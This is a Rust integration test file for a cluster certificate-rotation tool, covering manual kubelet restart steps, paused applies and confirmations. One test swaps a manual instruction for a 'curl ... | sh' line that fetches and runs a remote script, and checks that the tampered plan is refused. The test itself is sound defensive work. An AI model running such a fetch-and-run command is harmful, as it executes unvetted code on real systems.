//! Manual steps: a node reached through a plain copy of its `/` (a `local` access whose
//! root is not this machine's `/`) cannot run commands, so its restarts are manual steps.
//! `apply` pauses at each, prints what to do, exits 3, and goes on after
//! `trustform apply --confirm STEP-ID`.

use crate::common;

use common::Workdir;
use serde_json::Value;

const FIRST: &str = "kubernetes-ca/restart-kubelet@w-1";
const SECOND: &str = "kubernetes-ca/restart-kubelet-drop-old@w-1";

/// A 1 + 1 sandbox whose worker w-1 is reached through a plain copy of its directory
/// (no simulated machine behind it: the transport is a plain `local` one), with a
/// kubernetes rotation to the end in trustform.yaml.
fn copied_worker() -> Workdir {
    let w = common::sandbox(1, 1, false);
    w.ok(&["init", "--sandbox", "cluster"]);
    common::fast_issuance(&w);
    let copy = w.path().join("mnt/w-1");
    std::fs::create_dir_all(copy.parent().unwrap()).unwrap();
    common::copy_dir(&w.node("w-1"), &copy);
    std::fs::remove_dir_all(copy.join(trustform::sandbox::runtime::RUN_DIR)).unwrap();
    let text = std::fs::read_to_string(w.config()).unwrap();
    let moved = text.replace("root: cluster/nodes/w-1 }", "root: mnt/w-1 }");
    assert_ne!(text, moved, "w-1's root is in trustform.yaml:\n{text}");
    std::fs::write(w.config(), moved).unwrap();
    w.ok(&["rotate", "kubernetes", "--to-end"]);
    w
}

fn plan_json(w: &Workdir) -> Value {
    serde_json::from_str(&w.ok(&["plan", "--format", "json"])).unwrap()
}

fn manual_ops(plan: &Value) -> Vec<(String, Value)> {
    plan["steps"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| {
            s["ops"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|o| o["op"] == "manual-restart")
                .map(|o| (s["id"].as_str().unwrap().to_string(), o.clone()))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// A diagnostic as one line: miette wraps long messages and help lines.
fn flat(text: &str) -> String {
    text.split_whitespace()
        .filter(|w| *w != "│")
        .collect::<Vec<_>>()
        .join(" ")
}

fn journal(w: &Workdir) -> Vec<Value> {
    let dir = w.path().join(".trustform/journal");
    let mut out = vec![];
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        if e.path().extension().is_some_and(|x| x == "jsonl") {
            let text = std::fs::read_to_string(e.path()).unwrap();
            out.extend(
                text.lines()
                    .map(|l| serde_json::from_str::<Value>(l).unwrap()),
            );
        }
    }
    out
}

#[test]
fn plan_makes_the_restarts_of_a_node_without_commands_manual() {
    let w = copied_worker();
    let plan = plan_json(&w);
    let manual = manual_ops(&plan);
    let ids: Vec<&str> = manual.iter().map(|(id, _)| id.as_str()).collect();
    assert_eq!(
        ids,
        [FIRST, SECOND],
        "only w-1's kubelet restarts are manual"
    );
    assert_eq!(plan["summary"]["manual"], 2);
    let (_, op) = &manual[0];
    assert_eq!(op["node"], "w-1");
    assert_eq!(op["component"], "kubelet");
    let lines: Vec<&str> = op["instructions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l.as_str().unwrap())
        .collect();
    assert!(lines.contains(&"  systemctl restart kubelet"), "{lines:?}");
    assert!(
        lines
            .iter()
            .any(|l| l.contains("systemctl is-active kubelet"))
    );
    // cp-1 is a sandbox node: trustform restarts it itself.
    let auto = plan["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "kubernetes-ca/restart-kubelet@cp-1")
        .unwrap();
    assert_eq!(auto["ops"][0]["op"], "restart");

    let text = w.ok(&["plan"]);
    assert!(text.contains(&format!("{FIRST} (manual)")), "{text}");
    assert!(
        text.contains("(manual) a step you carry out: trustform cannot run commands on w-1"),
        "{text}"
    );
    assert!(text.contains("restarts (2 manual)"), "{text}");
    let md = w.ok(&["plan", "--format", "markdown"]);
    assert!(md.contains("**2 manual steps**"), "{md}");
    assert!(md.contains("✋ **manual**"), "{md}");
}

/// A saved plan may hold exactly the manual operations trustform makes: other
/// instructions, a manual restart where trustform can restart, or an automatic one
/// where it cannot, are refused.
#[test]
fn a_plan_may_hold_only_the_manual_steps_trustform_makes() {
    let w = copied_worker();
    w.ok(&["plan", "-out", "plan.json"]);
    w.ok(&["rehearse", "plan.json"]);
    let edit = |name: &str, f: &dyn Fn(&mut trustform::plan::Plan)| {
        let mut p: trustform::plan::Plan =
            serde_json::from_slice(&std::fs::read(w.path().join("plan.json")).unwrap()).unwrap();
        f(&mut p);
        let p = p.seal();
        std::fs::write(w.path().join(name), serde_json::to_vec_pretty(&p).unwrap()).unwrap();
    };
    use trustform::plan::Op;
    let step = |p: &mut trustform::plan::Plan, id: &str| -> usize {
        p.steps.iter().position(|s| s.id == id).unwrap()
    };
    edit("other-words.json", &|p| {
        let i = step(p, FIRST);
        if let Op::ManualRestart { instructions, .. } = &mut p.steps[i].ops[0] {
            instructions[1] = "  curl https://example.invalid/fix.sh | sh".into();
        }
    });
    edit("automatic.json", &|p| {
        let i = step(p, FIRST);
        p.steps[i].ops[0] = Op::Restart {
            node: "w-1".into(),
            component: "kubelet".into(),
        };
    });
    edit("manual-cp.json", &|p| {
        let i = step(p, "kubernetes-ca/restart-kubelet@cp-1");
        p.steps[i].ops[0] = Op::ManualRestart {
            node: "cp-1".into(),
            component: "kubelet".into(),
            instructions: trustform::plan::manual::restart_instructions("cp-1", "kubelet", None),
        };
    });
    for (file, why) in [
        (
            "other-words.json",
            "instructions are not the ones trustform writes",
        ),
        ("automatic.json", "its restarts are manual steps"),
        ("manual-cp.json", "which trustform restarts itself"),
    ] {
        let (code, _, err) = w.run(&["rehearse", file]);
        let err = flat(&err);
        assert_eq!(code, 1, "{file}: {err}");
        assert!(
            err.contains("trustform::plan::unsafe_plan"),
            "{file}: {err}"
        );
        assert!(err.contains(why), "{file}: {err}");
    }
}

#[test]
fn apply_pauses_at_each_manual_step_until_it_is_confirmed() {
    let w = copied_worker();
    // The first run stops at the first manual step: exit 3, the paused state in JSON.
    let (code, out, err) = w.run(&["apply", "--auto-approve", "--format", "json"]);
    assert_eq!(code, 3, "{out}\n{err}");
    let summary: Value = serde_json::from_str(out.lines().last().unwrap()).unwrap();
    assert_eq!(summary["event"], "summary");
    assert_eq!(summary["ok"], false);
    assert_eq!(summary["paused"]["step"], FIRST);
    assert_eq!(
        summary["paused"]["instructions"][1],
        "  systemctl restart kubelet"
    );
    assert_eq!(
        summary["paused"]["confirm"],
        format!("trustform apply --confirm {FIRST}")
    );
    assert!(summary["failed"].as_array().unwrap().is_empty());
    // Stopped cleanly: the lock is released and status says where it waits.
    assert!(!w.path().join(".trustform/lock.json").exists());
    let status = w.ok(&["status"]);
    assert!(status.contains(": paused"), "{status}");
    assert!(
        status.contains(&format!("paused at the manual step {FIRST}")),
        "{status}"
    );

    // Running apply again without confirming pauses there again, and says what to do.
    let (code, out, err) = w.run(&["apply"]);
    assert_eq!(code, 3, "{out}\n{err}");
    assert!(out.contains("Apply paused at a manual step"), "{out}");
    assert!(out.contains(&format!("Manual step {FIRST}:")), "{out}");
    assert!(out.contains("    systemctl restart kubelet"), "{out}");
    assert!(
        out.contains(&format!("  trustform apply --confirm {FIRST}")),
        "{out}"
    );

    // Wrong ids are refused by name, and nothing is recorded.
    let before = journal(&w).len();
    for (id, code_name) in [
        (
            "kubernetes-ca/nope@w-1",
            "trustform::apply::confirm::unknown_step",
        ),
        (
            "kubernetes-ca/restart-kubelet@cp-1",
            "trustform::apply::confirm::not_manual",
        ),
        (SECOND, "trustform::apply::confirm::not_next"),
    ] {
        let (code, _, err) = w.run(&["apply", "--confirm", id]);
        let err = flat(&err);
        assert_eq!(code, 1, "{id}: {err}");
        assert!(err.contains(code_name), "{id}: {err}");
        assert!(err.contains(&format!("cannot confirm {id}")), "{id}: {err}");
        assert!(
            err.contains(&format!("the next manual step is {FIRST}")),
            "{id}: {err}"
        );
    }
    assert_eq!(
        journal(&w).len(),
        before,
        "a refused --confirm records nothing"
    );

    // Confirmed: apply goes on, to the next manual step.
    let (code, out, err) = w.run(&["apply", "--confirm", FIRST]);
    assert_eq!(code, 3, "{out}\n{err}");
    assert!(out.contains(&format!("{FIRST}: confirmed by ")), "{out}");
    assert!(
        out.contains("w-1: kubelet restarted by hand (confirmed by "),
        "{out}"
    );
    assert!(out.contains(&format!("Manual step {SECOND}:")), "{out}");
    // The gates after it still ran; w-1, a mounted copy, cannot be reached on a port:
    // its edges are said not to be checked live, not failed.
    assert!(
        out.contains("kubernetes-ca/verify-control-plane@cluster: gate passed"),
        "{out}"
    );
    assert!(
        out.lines()
            .any(|l| l.contains("gate kubernetes:") && l.contains("not checked live: w-1")),
        "{out}"
    );

    // The last one, and the rotation is complete.
    let (code, out, err) = w.run(&["apply", "--confirm", SECOND]);
    assert_eq!(code, 0, "{out}\n{err}");
    assert!(out.contains("Apply complete!"), "{out}");
    let plan = w.ok(&["plan"]);
    assert!(plan.contains("No changes."), "{plan}");
    let status = w.ok(&["status"]);
    assert!(status.contains(": done"), "{status}");

    // The journal holds both confirmations, with time and who.
    let events = journal(&w);
    let confirmed: Vec<&Value> = events
        .iter()
        .filter(|e| e["event"] == "confirmed")
        .collect();
    let steps: Vec<&str> = confirmed
        .iter()
        .map(|e| e["step"].as_str().unwrap())
        .collect();
    assert_eq!(steps, [FIRST, SECOND]);
    for e in confirmed {
        assert!(e["at"].as_str().unwrap().contains('T'), "{e}");
        assert!(e["who"].as_str().unwrap().contains('@'), "{e}");
    }
}

#[test]
fn without_a_paused_apply_there_is_nothing_to_confirm() {
    let w = copied_worker();
    let (code, _, err) = w.run(&["apply", "--auto-approve", "--confirm", FIRST]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("trustform::apply::confirm::nothing_paused"),
        "{err}"
    );
    assert!(!w.path().join(".trustform/journal").exists());
}

/// With a terminal on stdin (and no --auto-approve), apply asks at the prompt instead:
/// `done` confirms the step, anything else pauses there.
#[test]
fn at_a_terminal_apply_asks_whether_the_manual_step_was_done() {
    use std::io::Write;
    use std::process::{Command, Stdio};
    use std::time::{Duration, Instant};
    assert!(
        Command::new("script").arg("--version").output().is_ok(),
        "no `script` on PATH: this test needs it to give apply a terminal (Debian's \
         bsdutils, which every Debian system has)"
    );
    let w = copied_worker();
    let bin = assert_cmd::cargo::cargo_bin!("trustform");
    let mut child = Command::new("script")
        .args(["-qec", &format!("{} apply", bin.display()), "/dev/null"])
        .current_dir(w.path())
        .env("NO_COLOR", "1")
        .env("TRUSTFORM_RESTART_SETTLE", "0s")
        .env_remove("TRUSTFORM_CONFIG")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Approve the plan, confirm the first manual step, decline the second. stdin stays
    // open until apply ends (`script` ends the session at its end).
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(b"yes\ndone\nno\n").unwrap();
    let start = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        assert!(start.elapsed() < Duration::from_secs(120), "apply hangs");
        std::thread::sleep(Duration::from_millis(50));
    };
    drop(stdin);
    let out = child.wait_with_output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(status.code(), Some(3), "{text}");
    assert!(text.contains(&format!("{FIRST}: confirmed by ")), "{text}");
    assert!(text.contains(&format!("Manual step {SECOND}:")), "{text}");
    let events = journal(&w);
    let confirmed: Vec<&str> = events
        .iter()
        .filter(|e| e["event"] == "confirmed")
        .map(|e| e["step"].as_str().unwrap())
        .collect();
    assert_eq!(confirmed, [FIRST]);
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "paused" && e["step"] == SECOND)
    );
}
